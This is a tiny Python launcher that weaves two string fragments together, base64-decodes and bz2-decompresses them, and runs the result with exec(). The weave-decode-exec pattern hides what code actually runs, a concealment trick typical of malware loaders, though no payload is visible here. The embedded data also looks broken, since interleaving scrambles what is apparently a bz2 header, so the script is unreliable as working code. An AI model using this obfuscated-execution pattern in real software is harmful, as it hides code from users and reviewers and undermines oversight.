# A launcher whose program travels as two halves of a base64+bz2 blob, woven together at run time and executed.
import base64
import bz2

_even = "QlpoOTFBWSZTWQ"
_odd = "yMDAwMDAwMDAw"
_woven = [""] * (len(_even) + len(_odd))
_woven[::2], _woven[1::2] = _even, _odd
_code = bz2.decompress(base64.b64decode("".join(_woven)))
exec(compile(_code, "<job>", "exec"), {"__name__": "__main__"})
